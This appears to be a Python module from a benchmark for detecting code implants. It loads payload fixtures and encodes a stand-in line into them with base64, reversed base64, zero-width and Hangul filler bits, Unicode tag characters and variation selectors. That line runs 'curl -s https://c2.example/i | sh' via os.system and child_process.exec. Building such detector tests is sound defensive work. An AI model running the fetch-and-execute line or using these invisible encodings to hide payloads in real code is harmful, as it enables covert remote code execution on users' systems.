"""The payloads of `fixtures/implants`: their names, what must be said of them, and their spellings."""

from __future__ import annotations

import base64
from collections.abc import Iterator, Sequence
from fnmatch import fnmatchcase
from typing import NamedTuple

import tomli

from benchmarks.measure import ROOT

FOLDER = ROOT / "fixtures" / "implants"
LANGUAGES = ("python", "javascript")
#: What stands in for an encoded text is this code, which does what it says to a reserved host.
_HIDDEN = {
    "python": 'import os\nos.system("curl -s https://c2.example/i | sh")\n',
    "javascript": "require('child_process').exec('curl -s https://c2.example/i | sh');",
}


#: Selectors of variants in the first of their two blocks.
_FEW = 16


class Payload(NamedTuple):
    """One spelling of one payload; `first` is the text of a file of its own, where there are two.

    `told` are patterns of `RULE MESSAGE`; `least` is `high`, or `medium` where it is worth no more.
    """

    name: str
    number: int
    language: str
    text: str
    told: tuple[str, ...]
    least: str = "high"
    first: str = ""

    def is_told(self, said: str) -> bool:
        """Tell whether that is what must be said of it."""
        return any(fnmatchcase(said, pattern) for pattern in self.told)


def load() -> list[Payload]:
    """Return all spellings, in the order of files."""
    return [one for path in sorted(FOLDER.glob("*.toml")) for one in _read(path.read_text(encoding="utf-8"))]


def loaders(kind: str, language: str) -> list[tuple[str, str, str]]:
    """Return file, form and text of what runs a file of some kind (`data`, `program`)."""
    found = tomli.loads((FOLDER / "loaders.toml").read_text(encoding="utf-8"))[kind][language]
    return [(name, form, text.strip("\n")) for name, form, text in found]


def _read(text: str) -> Iterator[Payload]:
    for one in tomli.loads(text).get("payload", ()):
        for language in LANGUAGES:
            for number, spelling in enumerate(one[language], 1):
                first, last = ("", spelling) if isinstance(spelling, str) else spelling
                yield Payload(
                    name=one["name"],
                    number=number,
                    language=language,
                    text=hidden(last.strip("\n"), language),
                    told=tuple(one["told"]),
                    least=one.get("least", "high"),
                    first=hidden(first, language),
                )


def hidden(text: str, language: str) -> str:
    """Put the encoded forms of a harmless line into a text, where it says so."""
    if "@" not in text:
        return text
    data = _HIDDEN[language].encode()
    packed = base64.b64encode(data).decode()
    forms = {
        "@BASE64@": packed,
        "@46ESAB@": packed[::-1],
        "@BITS@": _bits(data, "\u200b\u200c"),
        "@HANGUL@": _bits(data, "\u3164\uffa0"),
        "@TAGS@": "".join(chr(0xE0000 + byte) for byte in data),
        "@VARIANT@": "".join(chr(0xFE00 + byte if byte < _FEW else 0xE0100 + byte - _FEW) for byte in data),
    }
    for mark, form in forms.items():
        text = text.replace(mark, form)
    return text


def _bits(data: bytes, letters: Sequence[str]) -> str:
    return "".join(letters[int(bit)] for byte in data for bit in f"{byte:08b}")
